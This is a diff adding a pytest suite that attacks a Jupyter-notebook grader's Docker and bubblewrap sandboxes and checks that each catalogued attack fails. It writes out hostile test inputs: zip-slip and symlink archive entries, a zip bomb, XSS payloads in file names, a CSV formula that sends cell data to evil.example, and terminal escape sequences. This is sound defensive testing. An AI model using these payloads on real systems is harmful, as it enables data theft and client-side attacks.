@@ -1,0 +1,481 @@
+"""Every catalogued attack (A1-E8), as a hostile notebook, against every isolating sandbox backend.
+
+For each (attack, backend) the grader must end with: the submission not passed (pure resource
+abuse by a correct solution may pass), grading within the problem's limits plus a margin, no file
+outside the sandbox created or changed, no process or container left behind, no network
+connection made, no hidden test source or reference solution or host secret in any output,
+every HTML output inert, and the next submission graded normally. Attack-specific evidence is in
+catalog.py. An attack that succeeds raises AttackSucceeded; known ones are marked xfail(strict)
+so they flip when the grader is fixed.
+"""
+from __future__ import annotations
+
+import contextlib
+import csv
+import io
+import json
+import os
+import signal
+import stat
+import sys
+import time
+import zipfile
+from pathlib import Path
+from typing import Any, Callable
+
+import pytest
+
+from grader.grading import grade
+from grader.notebook import parse_notebook
+from grader.proxy import Channel, Learner, agent_source
+from grader.sandbox import get_sandbox
+from grader.sandbox.bwrap import BwrapSandbox
+from grader.sandbox.docker import DockerSandbox
+from grader.store import Store
+from tests.attacks.catalog import ATTACKS, CATALOGUE_IDS, VARIANTS, Attack, E7_ALICE, E7_BOB, C11_MALLORY, D7_MALLORY
+from tests.attacks.harness import (MARGIN_S, PRELUDE, Arena, AttackSucceeded, Run, Sampler, check_outputs,
+                                   html_problems, notebook_bytes, outputs_of, read_tree, render_cells, tight_bank,
+                                   tight_problem, tree_hash)
+from tests.browser import CHROMIUM, render
+from tests.conftest import SOFTMAX_OK, SOFTMAX_WRONG, notebook
+
+pytestmark = pytest.mark.slow
+
+UNAVAILABLE = {"docker": DockerSandbox().unavailable_reason(), "bwrap": BwrapSandbox().unavailable_reason()}
+BACKENDS = ("docker", "bwrap")
+
+
+def _params(attacks: list[Attack]) -> list[Any]:
+    params = []
+    for backend in BACKENDS:
+        for a in attacks:
+            marks: list[Any] = [pytest.mark.docker] if backend == "docker" else []
+            if UNAVAILABLE[backend]:
+                marks.append(pytest.mark.skip(reason=f"{backend} unavailable: {UNAVAILABLE[backend]}"))
+            elif backend in a.skip:
+                marks.append(pytest.mark.skip(reason=f"{a.id} is out of reach on {backend}: {a.skip[backend]}"))
+            reason = a.xfail.get(backend) or a.xfail.get("*")
+            if reason:
+                marks.append(pytest.mark.xfail(strict=True, raises=AttackSucceeded, reason=reason))
+            params.append(pytest.param(a, backend, id=f"{a.id}-{backend}", marks=marks))
+    return params
+
+
+# ====================================================================== helpers
+
+class Neighbour:
+    """Another sandbox of the same backend, holding a secret, that must come through unharmed."""
+
+    def __init__(self, backend: str, arena: Arena):
+        self.secret = arena.neighbour_secret
+        self.session = get_sandbox(backend).open(tight_problem({"total_s": 180, "cell_s": 30}).limits)
+        outcome = self.session.run_cells([(0, f"ATK_NEIGHBOUR = {self.secret!r}\ndef atk_alive():\n    return ATK_NEIGHBOUR\n")],
+                                         time.monotonic() + 60)
+        assert outcome.state == "ok", outcome
+        self.session.install_agent(agent_source())
+        self.learner = Learner(Channel(self.session, 10.0))
+
+    def check(self) -> None:
+        try:
+            value = self.learner.atk_alive()
+        except Exception as exc:  # noqa: BLE001
+            raise AttackSucceeded(f"a neighbouring sandbox was hurt: {type(exc).__name__}: {exc}") from None
+        if value != self.secret:
+            raise AttackSucceeded(f"a neighbouring sandbox's state changed: {value!r}")
+
+    def close(self) -> None:
+        self.session.close()
+
+
+@contextlib.contextmanager
+def _env(**values: str):
+    old = {k: os.environ.get(k) for k in values}
+    os.environ.update(values)
+    try:
+        yield
+    finally:
+        for k, v in old.items():
+            if v is None:
+                os.environ.pop(k, None)
+            else:
+                os.environ[k] = v
+
+
+def cli(argv: list[str], **env: str) -> tuple[int, str, str]:
+    """Run the grader's CLI in this process; returns (exit code, stdout, stderr)."""
+    from grader.cli import main
+
+    out, err = io.StringIO(), io.StringIO()
+    handler = signal.getsignal(signal.SIGTERM)
+    try:
+        with _env(**env), contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
+            code = main(argv)
+    finally:
+        signal.signal(signal.SIGTERM, handler)
+    return code, out.getvalue(), err.getvalue()
+
+
+def attack_notebook(arena: Arena, cells: tuple[Any, ...], metadata: dict | None = None) -> bytes:
+    return notebook_bytes(render_cells([PRELUDE, *cells], arena.placeholders()), metadata)
+
+
+def next_submission_graded_normally(backend: str) -> None:
+    r = grade(notebook(SOFTMAX_OK), tight_problem(), get_sandbox(backend), "next.ipynb")
+    if r.status != "passed":
+        raise AttackSucceeded(f"the next submission was not graded normally: {r.status} {r.error} "
+                              f"{[c.message for c in r.checks if c.outcome != 'passed'][:2]}")
+
+
+# ====================================================================== flows
+
+def flow_grade(attack: Attack, backend: str, arena: Arena) -> Run:
+    """Grade the hostile notebook (possibly several times in a row) with tightened limits."""
+    problem = tight_problem(attack.limits)
+    sandbox = get_sandbox(backend)
+    nb = parse_notebook(attack_notebook(arena, attack.cells, attack.metadata))
+    run = Run(backend, arena, problem)
+    neighbour = Neighbour(backend, arena) if attack.neighbour else None
+    if neighbour is not None:
+        arena.reset_baseline()
+    try:
+        with Sampler(arena.token, tasks=attack.sample_tasks) as sampler:
+            for _ in range(attack.runs):
+                started = time.monotonic()
+                try:
+                    run.results.append(grade(nb, problem, sandbox, f"{attack.id}.ipynb"))
+                except Exception as exc:  # noqa: BLE001 - the finding itself
+                    run.crash = exc
+                run.elapsed.append(time.monotonic() - started)
+                if run.crash is not None:
+                    break
+        run.extra.update(max_tasks=sampler.max_tasks, max_rss_mb=sampler.max_rss_mb, start_rss_mb=sampler.start_rss_mb,
+                         limit_s=problem.limits.total_s)
+        if neighbour is not None:
+            neighbour.check()
+    finally:
+        if neighbour is not None:
+            neighbour.close()
+    run.outputs = outputs_of(run.results, arena.tmp / "out")
+    return run
+
+
+def _write_class(root: Path, students: dict[str, bytes], names: dict[str, str] | None = None) -> Path:
+    for student, data in students.items():
+        (root / student).mkdir(parents=True, exist_ok=True)
+        name = (names or {}).get(student, "mle-act-softmax")
+        (root / student / f"{name}.ipynb").write_bytes(data)
+    return root
+
+
+def run_batch(arena: Arena, backend: str, source: Path, jobs: int = 2, tasks: bool = False,
+              extra: tuple[str, ...] = ()) -> tuple[int, str, str, Path, Sampler]:
+    """`grader batch` on `source` with a tightened copy of the bank; worker PIDs are sampled for the census."""
+    bank = arena.tmp / "bank"
+    if not bank.exists():
+        tight_bank(bank)
+    out = arena.tmp / "out"
+    with Sampler(arena.token, tasks=tasks, pids=True) as sampler:
+        code, stdout, stderr = cli(["batch", str(source), "--out", str(out), "--jobs", str(jobs), "--sandbox", backend,
+                                    *extra], GRADER_PROBLEMS=str(bank))
+    arena.owners |= sampler.pids
+    return code, stdout, stderr, out, sampler
+
+
+def _rows(out: Path) -> dict[str, dict[str, Any]]:
+    return {r["student"]: r for r in Store(out / "grader.db").batch_rows()} if (out / "grader.db").exists() else {}
+
+
+def _batch_run(backend: str, arena: Arena, out: Path, stdout: str, stderr: str) -> Run:
+    run = Run(backend, arena, tight_problem())
+    rows = _rows(out)
+    run.extra["rows"] = rows
+    run.extra["limit_s"] = run.problem.limits.total_s
+    run.elapsed = [r["duration_s"] for r in rows.values()]
+    run.outputs = {**read_tree(out), "stdout": stdout, "stderr": stderr} if out.exists() else {"stdout": stdout, "stderr": stderr}
+    return run
+
+
+def flow_batch_starve(attack: Attack, backend: str, arena: Arena) -> Run:
+    """C11: an attacker's CPU spinners run beside honest classmates graded at the same time."""
+    ok = notebook_bytes([SOFTMAX_OK])
+    root = _write_class(arena.tmp / "class", {"amallory": attack_notebook(arena, (SOFTMAX_OK, C11_MALLORY)),
+                                              "bob": ok, "carol": ok})
+    code, stdout, stderr, out, sampler = run_batch(arena, backend, root, jobs=2, tasks=True)
+    run = _batch_run(backend, arena, out, stdout, stderr)
+    rows = run.extra["rows"]
+    assert code == 0 and set(rows) == {"amallory", "bob", "carol"}, (code, stderr[-500:], list(rows))
+    assert sampler.max_tasks > 0, "the spinners never ran"
+    run.extra["max_tasks"] = sampler.max_tasks
+    hurt = {s: (rows[s]["status"], rows[s]["error"]) for s in ("bob", "carol") if rows[s]["status"] != "passed"}
+    if hurt:
+        raise AttackSucceeded(f"classmates graded beside CPU spinners were not graded normally: {hurt}")
+    return run
+
+
+def flow_batch_classmates(attack: Attack, backend: str, arena: Arena) -> Run:
+    """D7: an attacker tries to kill, overwrite or reach classmates graded in the same batch."""
+    ok = notebook_bytes([SOFTMAX_OK])
+    root = _write_class(arena.tmp / "class", {"amallory": attack_notebook(arena, (SOFTMAX_OK, D7_MALLORY)),
+                                              "alice": ok, "bob": ok, "carol": ok})
+    before = tree_hash(root)
+    code, stdout, stderr, out, _ = run_batch(arena, backend, root, jobs=2)
+    run = _batch_run(backend, arena, out, stdout, stderr)
+    rows = run.extra["rows"]
+    assert code == 0 and set(rows) == {"amallory", "alice", "bob", "carol"}, (code, stderr[-500:], list(rows))
+    if tree_hash(root) != before:
+        raise AttackSucceeded("a classmate's submission was changed")
+    hurt = {s: (rows[s]["status"], rows[s]["error"]) for s in ("alice", "bob", "carol") if rows[s]["status"] != "passed"}
+    if hurt:
+        raise AttackSucceeded(f"classmates were not graded normally: {hurt}")
+    if rows["amallory"]["status"] == "passed":
+        raise AttackSucceeded("the attacker's notebook passed although it kills its own kernel")
+    return run
+
+
+def _zip(path: Path, entries: dict[str, bytes], links: dict[str, str] | None = None) -> Path:
+    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
+        for name, data in entries.items():
+            zf.writestr(name, data)
+        for name, target in (links or {}).items():
+            info = zipfile.ZipInfo(name)
+            info.external_attr = (stat.S_IFLNK | 0o777) << 16
+            zf.writestr(info, target)
+    return path
+
+
+def flow_zip_slip(attack: Attack, backend: str, arena: Arena) -> Run:
+    """D9: hostile class archives are refused whole, nothing lands outside, then a clean one grades."""
+    ok = notebook_bytes([SOFTMAX_OK])
+    t = arena.token
+    hostile = {
+        "dotdot": ({"alice/mle-act-softmax.ipynb": ok, f"../../escape-{t}.ipynb": ok}, None),
+        "absolute": ({"alice/mle-act-softmax.ipynb": ok, f"{arena.markers_dir}/abs-{t}.ipynb": ok}, None),
+        "nested-dotdot": ({f"alice/../../../escape2-{t}.ipynb": ok}, None),
+        "drive": ({f"C:/escape-{t}.ipynb": ok}, None),
+        "backslash": ({f"..\\..\\escape3-{t}.ipynb": ok}, None),
+        "symlink": ({"alice/mle-act-softmax.ipynb": ok}, {"bob/mle-act-softmax.ipynb": str(arena.secret_file)}),
+        "dir-symlink": ({}, {"carol": str(arena.markers_dir)}),
+        "bomb": ({"dave/mle-act-softmax.ipynb": b"\0" * (30 * 1024 * 1024)}, None),
+    }
+    run = Run(backend, arena, tight_problem())
+    bank = arena.tmp / "bank"
+    tight_bank(bank)
+    for name, (entries, links) in hostile.items():
+        archive = _zip(arena.tmp / f"{name}.zip", entries, links)
+        out = arena.tmp / f"out-{name}"
+        started = time.monotonic()
+        code, stdout, stderr = cli(["batch", str(archive), "--out", str(out), "--sandbox", backend],
+                                   GRADER_PROBLEMS=str(bank))
+        run.elapsed.append(time.monotonic() - started)
+        run.outputs[f"{name}.stderr"] = stderr
+        assert code == 2 and "refusing" in stderr or "larger than" in stderr, (name, code, stderr[-300:])
+        assert not _rows(out), f"{name}: rows were recorded from a refused archive"
+    escaped = [str(p) for p in Path("/tmp").glob(f"*{t}*")] + [str(p) for p in arena.tmp.parent.glob(f"*{t}*")]
+    if escaped:
+        raise AttackSucceeded(f"archive entries were written outside the extraction folder: {escaped}")
+    clean = _zip(arena.tmp / "clean.zip", {"class/alice/mle-act-softmax.ipynb": ok,
+                                            "class/bob/mle-act-softmax.ipynb": notebook_bytes([SOFTMAX_WRONG])})
+    code, stdout, stderr, out, _ = run_batch(arena, backend, clean)
+    rows = _rows(out)
+    assert code == 0 and rows["alice"]["status"] == "passed" and rows["bob"]["status"] == "failed", (code, stderr[-300:])
+    run.outputs.update(read_tree(out))
+    return run
+
+
+MALFORMED: dict[str, bytes] = {
+    "empty": b"",
+    "not-json": b"{not json",
+    "nbformat-5": json.dumps({"cells": [], "metadata": {}, "nbformat": 5, "nbformat_minor": 99}).encode(),
+    "no-cells": json.dumps({"metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(),
+    "cells-not-list": json.dumps({"cells": {"a": 1}, "metadata": {}, "nbformat": 4}).encode(),
+    "cell-not-dict": json.dumps({"cells": [1, "x", None], "metadata": {}, "nbformat": 4}).encode(),
+    "source-not-string": json.dumps({"cells": [{"cell_type": "code", "source": 42}], "metadata": {}, "nbformat": 4}).encode(),
+    "deeply-nested": b"[" * 100_000 + b"]" * 100_000,
+    "deep-in-metadata": b'{"nbformat": 4, "cells": [], "metadata": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
+    "invalid-utf8": b'{"cells": [], "metadata": {}, "nbformat": 4, "x": "\xff\xfe"}',
+    "huge-number": b'{"cells": [], "metadata": {}, "nbformat": 1e999999}',
+    "json-array": b"[1, 2, 3]",
+    "bash-kernel": json.dumps({"cells": [{"cell_type": "code", "source": "echo hi", "metadata": {}, "outputs": []}],
+                               "metadata": {"kernelspec": {"name": "bash", "language": "bash"}}, "nbformat": 4}).encode(),
+    "only-markdown": json.dumps({"cells": [{"cell_type": "markdown", "source": "def softmax(z): ..."}],
+                                 "metadata": {}, "nbformat": 4}).encode(),
+}
+
+
+def flow_malformed(attack: Attack, backend: str, arena: Arena) -> Run:
+    """D10: each malformed file ends as one 'invalid' row with a short, clear reason; nothing runs."""
+    run = Run(backend, arena, tight_problem())
+    bank = arena.tmp / "bank"
+    tight_bank(bank)
+    for name, data in MALFORMED.items():
+        path = arena.tmp / f"{name}.ipynb"
+        path.write_bytes(data)
+        started = time.monotonic()
+        code, stdout, stderr = cli(["submit", str(path), "--sandbox", backend, "--problem", "mle-act-softmax", "--json"],
+                                   GRADER_PROBLEMS=str(bank))
+        run.elapsed.append(time.monotonic() - started)
+        assert code == 2, (name, code, stderr[-300:])
+        [result] = json.loads(stdout)
+        assert result["status"] == "invalid" and result["checks_passed"] == 0, (name, result)
+        assert 0 < len(result["error"]["evalue"]) <= 300, (name, result["error"])
+        run.outputs[f"{name}.json"] = stdout
+        run.outputs[f"{name}.stderr"] = stderr
+        assert run.elapsed[-1] < 20, f"{name}: reading a malformed notebook took {run.elapsed[-1]:.1f} s"
+    attempts = list(Store(os.environ["GRADER_DB"]).attempts())
+    assert len(attempts) == len(MALFORMED) and {a.status for a in attempts} == {"invalid"}
+    return run
+
+
+def flow_huge(attack: Attack, backend: str, arena: Arena) -> Run:
+    """D11: a file over the size cap is refused before parsing; a large one has its outputs ignored."""
+    run = Run(backend, arena, tight_problem())
+    blob = "A" * (21 * 1024 * 1024)
+    too_big = arena.tmp / "too-big.ipynb"
+    too_big.write_bytes(notebook_bytes([SOFTMAX_WRONG, {"cell_type": "markdown", "source": blob, "metadata": {}}]))
+    bank = arena.tmp / "bank"
+    tight_bank(bank)
+    started = time.monotonic()
+    code, stdout, stderr = cli(["submit", str(too_big), "--sandbox", backend, "--json"], GRADER_PROBLEMS=str(bank))
+    run.elapsed.append(time.monotonic() - started)
+    [result] = json.loads(stdout)
+    assert code == 2 and result["status"] == "invalid" and "larger than" in result["error"]["evalue"], result
+    outputs = [{"output_type": "display_data", "metadata": {}, "data": {"image/png": "B" * (6 * 1024 * 1024),
+                                                                          "text/html": "<script>alert(1)</script>"}}]
+    large = notebook_bytes([
+        {"cell_type": "markdown", "metadata": {}, "source": "![x](attachment:x.png)",
+         "attachments": {"x.png": {"image/png": "C" * (6 * 1024 * 1024)}}},
+        {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": outputs, "source": SOFTMAX_WRONG},
+    ])
+    assert 12 * 1024 * 1024 < len(large) < 20 * 1024 * 1024
+    started = time.monotonic()
+    r = grade(parse_notebook(large), run.problem, get_sandbox(backend), "large.ipynb")
+    run.elapsed.append(time.monotonic() - started)
+    run.results.append(r)
+    assert r.status == "failed", (r.status, r.error)
+    run.outputs.update(outputs_of(run.results, arena.tmp / "out"))
+    return run
+
+
+def flow_report_xss(attack: Attack, backend: str, arena: Arena) -> Run:
+    """E7: HTML through exception types, messages and file names is inert in every HTML page written."""
+    ok = notebook_bytes([SOFTMAX_OK])
+    root = _write_class(arena.tmp / "class", {
+        "alice": notebook_bytes([SOFTMAX_OK, E7_ALICE]), "bob": notebook_bytes([E7_BOB]), "carol": ok, "dave": ok},
+        names={"carol": "<img src=x onerror=alert(1)>", "dave": "javascript:alert(1)"})
+    code, stdout, stderr, out, _ = run_batch(arena, backend, root)
+    run = _batch_run(backend, arena, out, stdout, stderr)
+    rows = run.extra["rows"]
+    assert code == 0 and set(rows) == {"alice", "bob", "carol", "dave"}, (code, stderr[-500:], list(rows))
+    assert rows["alice"]["status"] == "error" and rows["bob"]["status"] == "failed", rows
+    pages = sorted(out.rglob("*.html"))
+    assert len(pages) >= 5
+    texts = "\n".join(p.read_text() for p in pages)
+    assert "&lt;img src=x onerror=alert(1)&gt;" in texts and "&lt;script&gt;alert(1)&lt;/script&gt;" in texts, \
+        "the payloads should appear, escaped"
+    for page in pages:
+        bad = html_problems(page.read_text())
+        if bad:
+            raise AttackSucceeded(f"{page.relative_to(out)} is not inert: {bad[:3]}")
+    if CHROMIUM is not None:
+        for page in [out / "report.html", *sorted((out / "feedback").glob("*/*.html"))[:3]]:
+            dom, console = render(page)
+            if console:
+                raise AttackSucceeded(f"{page.relative_to(out)} logged to the console in a browser: {console[:3]}")
+            if "<img" in dom or "<svg" in dom or "<iframe" in dom:
+                raise AttackSucceeded(f"{page.relative_to(out)}: injected elements exist in the rendered DOM")
+    run.extra["chromium"] = CHROMIUM is not None
+    return run
+
+
+def flow_report_names(attack: Attack, backend: str, arena: Arena) -> Run:
+    """Variants of E7/D15: names the attacker controls reach the gradebook CSV and the instructor's terminal."""
+    ok = notebook_bytes([SOFTMAX_OK])
+    root = arena.tmp / "class"
+    (root / "eve").mkdir(parents=True)
+    names = {"csv": '=HYPERLINK("http://evil.example/?x="&A1,"open").ipynb',
+             "tty": "\x1b]0;owned\x07\x1b[2J\x1b]52;c;ZWNobyBwd25lZA==\x07.ipynb",
+             "tty-junk": "\x1b[31mnot-a-notebook\x1b[0m.txt"}
+    for n in names.values():
+        (root / "eve" / n).write_bytes(ok)
+    code, stdout, stderr, out, _ = run_batch(arena, backend, root)
+    run = _batch_run(backend, arena, out, stdout, stderr)
+    assert code == 0 and len(run.extra["rows"]) >= 1, (code, stderr[-300:])
+    run.extra["csv_cells"] = [cell for f in ("gradebook.csv", "students.csv")
+                              for row in csv.reader(open(out / f, newline="")) for cell in row]
+    return run
+
+
+def flow_flood(attack: Attack, backend: str, arena: Arena) -> Run:
+    """E8: resubmitting in a loop; each submission is graded on its own and recorded as one row."""
+    bank = arena.tmp / "bank"
+    tight_bank(bank)
+    run = Run(backend, arena, tight_problem())
+    paths = []
+    for i, src in enumerate([SOFTMAX_WRONG, SOFTMAX_WRONG, SOFTMAX_OK]):
+        p = arena.tmp / f"try{i}.ipynb"
+        p.write_bytes(notebook_bytes([src]))
+        paths.append(str(p))
+    started = time.monotonic()
+    code, stdout, stderr = cli(["submit", *paths, "--sandbox", backend, "--json"], GRADER_PROBLEMS=str(bank))
+    run.elapsed.append(time.monotonic() - started)
+    run.extra["limit_s"] = 3 * run.problem.limits.total_s
+    results = json.loads(stdout)
+    assert code == 1 and [r["status"] for r in results] == ["failed", "failed", "passed"], (code, stdout[-300:])
+    code, hist, _ = cli(["history", "--json"])
+    attempts = json.loads(hist)
+    assert [a["status"] for a in attempts] == ["passed", "failed", "failed"]
+    assert len({a["attempt_id"] for a in attempts}) == 3
+    run.outputs = {"submit": stdout, "history": hist, "stderr": stderr}
+    return run
+
+
+FLOWS: dict[str, Callable[[Attack, str, Arena], Run]] = {
+    "grade": flow_grade, "batch_starve": flow_batch_starve, "batch_classmates": flow_batch_classmates,
+    "zip_slip": flow_zip_slip, "malformed": flow_malformed, "huge": flow_huge, "report_xss": flow_report_xss,
+    "report_names": flow_report_names, "flood": flow_flood,
+}
+
+
+# ====================================================================== the tests
+
+def _assert_common(attack: Attack, run: Run, arena: Arena, needles: list[str]) -> None:
+    if attack.settle_s:
+        time.sleep(attack.settle_s)
+    arena.check_leftovers()
+    arena.check_markers()
+    arena.check_network()
+    next_submission_graded_normally(run.backend)
+    if run.crash is not None:
+        raise AttackSucceeded(f"grading raised {type(run.crash).__name__}: {str(run.crash)[:200]} "
+                              "(no result row for the submission)")
+    for r in run.results:
+        if r.status not in attack.statuses:
+            if r.status == "passed":
+                raise AttackSucceeded(f"the hostile notebook passed ({r.checks_passed}/{r.checks_total})")
+            raise AssertionError(f"status {r.status!r} not in {sorted(attack.statuses)}: {r.error}")
+        if not attack.may_pass and r.checks_passed >= r.checks_total:
+            raise AttackSucceeded(f"every check passed for a hostile notebook: {r.status}")
+    limit = run.extra.get("limit_s", run.problem.limits.total_s if run.problem else 0)
+    for t in run.elapsed:
+        if t > limit + MARGIN_S:
+            raise AttackSucceeded(f"grading took {t:.1f} s, beyond the {limit:g} s limit plus {MARGIN_S:g} s")
+    check_outputs(run.outputs, needles, arena.secrets())
+
+
+@pytest.mark.parametrize("attack, backend", _params(ATTACKS + VARIANTS))
+def test_attack(attack: Attack, backend: str, arena: Arena, needles: list[str]) -> None:
+    arena.use_backend(backend)
+    run = FLOWS[attack.flow](attack, backend, arena)
+    _assert_common(attack, run, arena, needles)
+    if attack.evidence is not None:
+        attack.evidence(run)
+
+
+def test_table_covers_the_whole_catalogue() -> None:
+    """One entry per catalogue id, each with a check that can fail or a documented flow."""
+    assert [a.id for a in ATTACKS] == CATALOGUE_IDS
+    for a in ATTACKS + VARIANTS:
+        assert a.flow in FLOWS, a.id
+        assert a.flow != "grade" or a.cells, a.id
+        assert a.statuses, a.id
+        assert a.process, f"{a.id}: say how the NOT ISOLATED process fallback fares"
